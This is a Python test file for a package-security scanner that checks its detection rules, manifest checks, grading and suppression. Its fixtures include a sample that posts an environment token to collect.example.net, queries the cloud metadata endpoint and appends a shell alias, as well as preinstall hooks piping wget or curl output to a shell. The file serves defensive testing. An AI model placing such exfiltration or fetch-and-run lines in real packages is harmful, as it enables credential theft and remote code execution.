"""A malicious package through the whole pipeline, plus manifest, scoring
and suppression behaviour."""
from pyspark.sql import functions as F

from conftest import rows
from vigil.operators import manifest_rules as M
from vigil.operators import scoring as S
from vigil.plans.scan import scan

EVIL = """import os, pickle, subprocess, requests
LICENCE = "AKIA""" + """ZZYYXXWWVVUUTTSS"
token = os.environ["HOST_TOKEN"]
requests.post("https://collect.example.net/in", json={"t": token})
requests.get("http://169.254.169.254/latest/")
subprocess.run("sync " + token, shell=True)
pickle.load(stream)
with open("~/.zshrc", "a") as rc:
    rc.write("alias ls=true")
"""
PKG = ('{"name": "helper", "scripts": {"preinstall": "wget https://get.example.net/p | sh"},'
       ' "dependencies": {"numpyy": "^2.0.0", "lodash": "^4.0.0"}}')


def test_malicious_package(make_files):
    r = scan(make_files({"helper.py": EVIL, "package.json": PKG}))
    f = S.active(r.findings)
    ids = {x[0] for x in rows(f, "rule_id")}
    assert {"S1", "S3", "S4", "S8", "S9", "S12", "P1", "M4", "M5"} <= ids
    assert f.count() >= 10
    assert rows(r.scores, "grade") == [("F",)]


def test_install_script_outside_scanned_dirs(make_files):
    r = scan(make_files({"package.json": '{"scripts": {"postinstall": "python build/hook.py"}}',
                         "build/hook.py": "import sys, os\nos.system(sys.argv[1])\n"}))
    assert ("S11/S1", "critical") in rows(r.findings, "rule_id", "severity")
    assert "S1" not in {x[0] for x in rows(r.findings, "rule_id")}


def test_empty_package_is_a(make_files):
    r = scan(make_files({"README.md": "A tiny helper.\n"}))
    assert rows(r.scores, "grade", "risk_level") == [("A", "safe")]


def test_suppression_file(make_files):
    files = make_files({"creds.py": 'AWS_KEY = "AKIA' + 'PLOKMIJNUHBYGVTF"\n', ".scanignore": "# ignore\nP1:creds.py\n"})
    r = scan(files, engines=("pattern",))
    p1 = rows(r.findings.where("rule_id = 'P1'"), "suppressed")
    assert p1 == [(True,)]
    assert rows(r.scores, "grade") == [("A",)]


def test_grades_from_counts(spark):
    def grade_of(sevs):
        pk = spark.createDataFrame([("p",)], "package_id string")
        f = spark.createDataFrame([("p", "R", s, False) for s in sevs],
                                  "package_id string, rule_id string, severity string, suppressed boolean")
        return S.grades(pk, f).collect()[0].grade
    assert grade_of(["critical"]) == "F"
    assert grade_of(["high"] * 3) == "F"
    assert grade_of(["medium"] * 20) == "D"
    assert grade_of(["medium"] * 3) == "C"
    assert grade_of(["low"] * 5) == "B"
    assert grade_of(["info"]) == "A"


def test_key_risks_order(spark):
    f = spark.createDataFrame(
        [("p", r, s, t, False, (1, "a", 0, i, 0)) for i, (r, s, t) in enumerate(
            [("S5", "medium", "env"), ("S1", "critical", "shell"), ("S1", "high", "shell2"), ("S5", "info", "x")])],
        "package_id string, rule_id string, severity string, title string, suppressed boolean, "
        "ord struct<eng:int,path:string,phase:int,line:int,k:long>")
    k = S.key_risks(f).collect()[0].key_risks
    assert k == ["CRITICAL: shell (S1)", "MEDIUM: env (S5)"]


def test_manifest_rules(make_files):
    files = make_files({
        "package.json": '{"description": "git helper", "scripts": {"postinstall": "curl x | bash"},'
                        ' "dependencies": {"requets": "1", "requests": "2", "python_dateutil": "1"}}',
        "SKILL.md": "# S\n## Tools\n- shell\n- search\n#### write_file\n### Other\n- bash\n",
        "mcp.json": '{"tools": [{"name": "a"}, "b"], "permissions": {"filesystem": "/", "net": true}}',
        "dist/index.js.map": "{}", ".env": "K=V", "certs/server.pem": "x", "node_modules/x/.env": "k",
    })
    m4 = rows(M.typosquat(files), "title")
    assert m4 == [('Possible typo-squatting: "requets" (similar to "requests")',)]
    assert rows(M.npm_install_hooks(files), "severity") == [("critical",)]
    # "### Other" ends the Tools section, so "bash" below it is not declared
    assert sorted(x[0] for x in rows(M.dangerous_tools(files), "title")) == [
        "Skill requests dangerous tool: shell", "Skill requests dangerous tool: write_file"]
    perms = sorted(x[0] for x in rows(M.broad_permissions(files), "title"))
    assert perms == ["Broad filesystem permission: filesystem", "Overly broad permission: net"]
    m7 = sorted(rows(M.debug_artifacts(files), "path", "severity"))
    assert ("dist/index.js.map", "high") in m7 and (".env", "critical") in m7 and ("certs/server.pem", "critical") in m7
    assert not any(p.startswith("node_modules") for p, _ in m7)
    assert rows(M.malformed_manifest(make_files({"mcp.json": "{bad"})), "rule_id") == [("M6",)]
    # "search" (from SKILL.md) ties "git" (from the description): list order wins
    assert rows(M.detect_category(files), "category") == [("search",)]


def test_typosquat_by_deletion_neighbourhoods(spark, make_files):
    """Against the edit distance of every pair; neither list is broadcast."""
    import json
    import random

    from vigil.operators import manifest_rules as M
    rng = random.Random(3)
    top = ["".join(rng.choice("abc") for _ in range(rng.choice([1, 2, 3, 4, 5]))) for _ in range(40)]
    deps = ["".join(rng.choice("abc") for _ in range(rng.choice([0, 1, 2, 3, 4, 5, 6]))) + rng.choice(["", "-", "_"]) for _ in range(60)] + ["A-b"]

    def near(a, b):
        if a == b or abs(len(a) - len(b)) > 1:
            return False
        if len(a) == len(b):
            return sum(x != y for x, y in zip(a, b)) == 1
        a, b = sorted((a, b), key=len)
        return any(b[:i] + b[i + 1:] == a for i in range(len(b)))

    files = make_files({"package.json": json.dumps({"dependencies": {d: "1" for d in deps}})})
    plain = lambda s: s.lower().replace("-", "").replace("_", "")
    want = set()
    for d in set(deps):
        if plain(d) not in top and (hits := [t for t in top if near(plain(d), t)]):
            want.add(f'Possible typo-squatting: "{d}" (similar to "{min(hits)}")')
    old = spark.conf.get("spark.sql.autoBroadcastJoinThreshold")
    spark.conf.set("spark.sql.autoBroadcastJoinThreshold", "-1")
    try:
        df = M.typosquat(files, spark.createDataFrame([(t,) for t in top], "top string"))
        assert "Broadcast" not in df._jdf.queryExecution().executedPlan().toString()
        assert {r.title for r in df.collect()} == want and want
    finally:
        spark.conf.set("spark.sql.autoBroadcastJoinThreshold", old)


def test_unknown_engines_are_refused(make_files):
    import pytest

    from vigil.plans.scan import collect_findings
    with pytest.raises(ValueError, match="residue"):
        collect_findings(make_files({"a.py": "x = 1\n"}), engines=("residue",))
